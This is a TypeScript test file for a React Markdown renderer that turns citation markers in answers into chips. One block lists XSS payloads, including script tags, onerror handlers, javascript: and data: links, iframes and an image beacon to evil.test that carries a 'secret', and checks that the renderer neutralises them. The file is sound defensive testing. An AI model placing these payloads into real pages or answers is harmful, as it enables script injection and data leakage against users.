import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import type { Source } from '../../../footnote/src/contract/response.ts';
import { AnswerSourcesContext } from '../sources/answer-sources.ts';
import { Markdown } from './markdown.tsx';

const sources: readonly Source[] = [
  { n: 1, title: 'Permissions', url: 'https://nodejs.org/api/permissions.html', domain: 'nodejs.org' },
  { n: 2, title: 'Release', url: 'https://nodejs.org/en/blog', domain: 'nodejs.org' },
  { n: 3, title: 'zod 4.6.0 › Dates', url: 'file:///srv/zod/README.md', domain: '' },
  { n: 4, title: 'A book', url: '', domain: '' },
];

describe('citations in an answer', () => {
  it('are chips where their markers stand, one for those side by side', () => {
    const html = render('It is.[[1]](https://nodejs.org/api/permissions.html)[[2]](https://nodejs.org/en/blog) So.');
    expect(chipsIn(html)).toEqual([['Source 1: Permissions; Source 2: Release', 'nodejs.org+1']]);
    expect(html).toContain('It is.');
    expect(html).not.toContain('[1]');
  });

  it('work for files of the server, and for sources without an address', () => {
    const html = render('Dates.[[3]](file:///srv/zod/README.md) Books.[4]');
    expect(chipsIn(html).map(([, text]) => text)).toEqual(['zod 4.6.0', 'A book']);
    expect(html).not.toContain('href="file:');
  });

  it('stay text where no source has the number', () => {
    const html = render('A list[7] and a year [2024].');
    expect(chipsIn(html)).toEqual([]);
    expect(html).toBe('<p>A list[7] and a year [2024].</p>');
  });

  it('are never made of code', () => {
    const html = render('Write `list[1]`.\n\n```\nlist[1]\n```');
    expect(chipsIn(html)).toEqual([]);
    expect(html).toContain('<code>list[1]</code>');
  });

  it('stand in lists, tables and strong words', () => {
    const html = render('- One [1]\n- **Two [[2]](https://nodejs.org/en/blog)**\n\n| a |\n|---|\n| [1][2] |');
    // Source 1 has an address, and what stands as [1] is a marker of it nevertheless.
    expect(chipsIn(html)).toHaveLength(3);
  });
});

describe('an answer that means harm', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](data:text/html,<script>alert(1)</script>)',
    '![x](https://evil.test/?d=secret)',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '<iframe src="https://evil.test"></iframe>',
    '<a href="https://evil.test" onclick="x()">x</a>',
    '[x][y]\n\n[y]: javascript:alert(1)',
  ])('runs and loads nothing: %s', (text) => {
    expect(render(text)).not.toMatch(/<(?:img|script|iframe|style|object|form)\b|\son\w+=|(?:href|src)="(?!https?:)/i);
  });

  it('shows the words of a picture in its place', () => {
    expect(render('See ![a bridge](https://evil.test/?d=secret).')).toMatch(
      /^<p>See (?:<span>)?a bridge(?:<\/span>)?\.<\/p>$/,
    );
  });

  it('has links that tell nobody where the reader came from', () => {
    expect(render('[it](https://a.test/)')).toContain(
      '<a href="https://a.test/" target="_blank" rel="noopener noreferrer nofollow">it</a>',
    );
  });
});

function render(text: string): string {
  const value = { answerId: 'a', sources };
  return renderToStaticMarkup(createElement(AnswerSourcesContext, { value }, createElement(Markdown, { text })));
}

/** Label and text of each. */
function chipsIn(html: string): (string | undefined)[][] {
  const chips = [...html.matchAll(/<button[^>]*class="citation-chip"[^>]*aria-label="([^"]*)"[^>]*>(.*?)<\/button>/g)];
  return chips.map(([, label, inside = '']) => [label, inside.replace(/<[^>]*>/g, '')]);
}
